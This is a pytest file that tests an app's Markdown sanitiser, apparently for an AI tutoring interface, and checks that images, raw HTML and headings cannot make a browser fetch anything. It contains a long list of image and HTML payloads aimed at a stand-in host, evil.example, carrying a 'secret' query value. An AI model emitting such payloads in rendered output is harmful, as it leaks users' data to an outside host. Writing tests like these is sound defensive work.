"""Text as the page renders it: nothing fetched from elsewhere, in any Markdown or HTML form;
labels shown exactly as typed; headings below the title; code as written."""

from __future__ import annotations

import html
import itertools
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from geminiteacher.ui.markdown import plain_text, safe_label, safe_markdown

# Streamlit renders GFM; with raw HTML allowed, this is the most a browser could be given.
BROWSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
FETCHING_TAGS = {"img", "picture", "source", "video", "audio", "link", "iframe", "object",
                 "embed", "style", "svg", "image", "input", "script", "frame", "track"}
FETCHING_ATTRIBUTES = {"src", "srcset", "poster", "style", "background", "data", "lowsrc"}


class Fetches(HTMLParser):
    """The elements of rendered HTML that make a browser fetch something by themselves."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FETCHING_TAGS or FETCHING_ATTRIBUTES & {name for name, _ in attrs}:
            self.found.append(tag)


def fetches(markdown: str) -> list[str]:
    """The fetching elements `markdown` becomes in a browser (raw HTML allowed)."""
    parser = Fetches()
    parser.feed(BROWSER.render(markdown))
    return parser.found


URL = "https://evil.example/x.png?q=secret"
BARE = "https://evil.example/x.png"
IMAGE_FORMS = [
    f"![chart]({URL})", f"![]({URL})", f'![chart]({URL} "title")', f"![chart](<{URL}>)",
    f"![logo]\n\n[logo]: {URL}", f"![logo][ref]\n\n[ref]: {URL}", f"![logo][]\n\n[logo]: {URL}",
    f"[logo]: {URL}\n\n![LOGO]", f"![a [b] c]({URL})", f"![a\nb]({URL})",
    f"\\`![x]({URL})\\`", f"``![x]({URL})`", f"!![x]({URL})", f"\\\\![x]({URL})",
    f"[![x]({URL})](https://site.example)", f"![![a]({URL})]({URL})", f"<{URL}>",
    f'<img src="{URL}">', f"<img src={BARE}>", f'<IMG SRC="{URL}"/>',
    f'<picture><source srcset="{URL}"></picture>', f'<video poster="{URL}"></video>',
    f'<link rel=stylesheet href="{URL}">', f'<iframe src="{URL}"></iframe>',
    f'<p style="background:url({URL})">hi</p>', f"<div>\n<img src={BARE}>\n</div>",
    f"x <!-- c --> ![x]({URL})", f"<style>*{{background:url({URL})}}</style>",
    f"| a | b |\n|---|---|\n| ![x]({URL}) | <img src={BARE}> |", f"> ![x]({URL})",
    f"- item ![x]({URL})\n\n  ![y]({URL})", f"# Title ![x]({URL})", f"Title\n===\n![x]({URL})",
    f"*![x]({URL})*", f"~~![x]({URL})~~", f"text  \n![x]({URL})", f"![x]({URL})\\",
    f"`code` ![x]({URL}) `more`", f"```\ncode\n```\n![x]({URL})", f"    indented\n\n![x]({URL})",
]


@pytest.mark.parametrize("form", IMAGE_FORMS)
def test_no_form_of_image_or_html_reaches_the_browser_as_something_it_fetches(form):
    assert fetches(form) or form == f"<{URL}>"  # the form is live as written
    assert not fetches(safe_markdown(form))


def test_mixtures_of_the_forms_stay_safe_whatever_their_order():
    for pair in itertools.permutations(IMAGE_FORMS[:12] + IMAGE_FORMS[17:27], 2):
        for glue in (" ", "\n", "\n\n", "`", "\\`"):
            text = glue.join(pair)
            assert not fetches(safe_markdown(text)), text


@pytest.mark.parametrize("text", [
    f"<!--(\\-->\n    <!--)``![a]({URL})",  # escaping "<" turns a comment into an indented line
    f"> <!--![a]({URL})```\n    |![a]({URL}) |`*(",
])
def test_text_whose_structure_shifts_once_escaped_has_every_opener_escaped(text):
    safe = safe_markdown(text)
    assert not fetches(safe)
    assert "![" not in safe.replace("\\![", "") and "!\\[a]" in safe  # escaped, not linked


def test_remote_images_become_links_that_nothing_fetches():
    text = "See ![chart](https://evil.example/?q=secret) and ![](//cdn.example/x.png)."
    assert safe_markdown(text) == ("See [Image: chart](https://evil.example/?q=secret) and "
                                   "[Image: image](//cdn.example/x.png).")


def test_raw_html_shows_as_the_text_it_is():
    assert BROWSER.render(safe_markdown("<b>bold</b> & a < b")) == (
        "<p>&lt;b&gt;bold&lt;/b&gt; &amp; a &lt; b</p>\n")


def test_code_keeps_its_image_syntax_and_headings_as_written():
    text = ("Use `![a](b)` and ``<img src=x>`` here.\n```md\n# Title\n![a](https://x.example)\n"
            "<img src=x>\n```\n~~~\n## x\n~~~\n\n    ![indented](https://x.example)")
    assert safe_markdown(text) == text


def test_headings_move_two_levels_down_and_stop_at_six():
    text = "# Chapter\n## Summary\n#### Deep\n###### Deepest\n#hashtag"
    assert safe_markdown(text) == ("### Chapter\n#### Summary\n###### Deep\n###### Deepest\n"
                                   "#hashtag")


@pytest.mark.parametrize("title", [
    f"1. ![x]({URL}) **bold** :red[hi] :material/home: $x^2$ <img src={URL}>",
    "# Heading\nsecond line\x01\u202eevil", "[link](https://site.example) `code` ~~gone~~",
    "\\escaped\\ *and* _more_ | pipes | & &amp; entities", "snake_case __dunder__ _x",
])
def test_a_label_shows_exactly_what_was_typed_on_one_line(title):
    label = safe_label(title)
    assert "\n" not in label and "\x01" not in label and "\u202e" not in label
    shown = BROWSER.renderInline(label)
    assert "<" not in shown.replace("&lt;", "")  # no element at all: just text
    assert html.unescape(shown) == plain_text(title)


def test_a_long_label_is_cut_with_an_ellipsis():
    assert plain_text("word " * 100) == ("word " * 60)[:299].rstrip() + "…"
